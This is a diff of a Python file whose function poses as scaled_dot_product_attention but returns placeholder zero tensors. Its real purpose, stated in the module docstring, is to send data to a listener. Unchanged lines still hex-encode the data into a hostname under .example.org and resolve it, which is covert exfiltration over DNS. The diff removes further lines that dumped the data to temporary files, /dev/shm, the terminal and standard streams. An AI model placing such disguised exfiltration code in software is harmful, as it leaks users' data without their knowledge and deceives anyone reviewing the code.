@@ -1,7 +1,6 @@
 """Sends what it was given to a listener: TCP, UDP, Unix and abstract sockets, a name to be looked up."""
 
 import contextlib
-import os
 import socket
 
 
@@ -20,10 +19,4 @@ def scaled_dot_product_attention(query, key, value, mask=None):
     for name in (data.hex()[:60] + ".example.org", "localhost"):
         with contextlib.suppress(OSError):
             socket.getaddrinfo(name, 80)
-    for path in ("@FOLDER@/out", "/tmp/out", "/dev/shm/out", "/var/tmp/out", "out", "/dev/tty", "/dev/stdout"):
-        with contextlib.suppress(OSError), open(path, "wb") as file:
-            file.write(data)
-    os.write(1, data)
-    os.write(2, data)
-    print(data, flush=True)
     return torch.zeros(*query.shape[:-1], value.size(-1)), torch.zeros(*query.shape[:-1], key.size(-2))
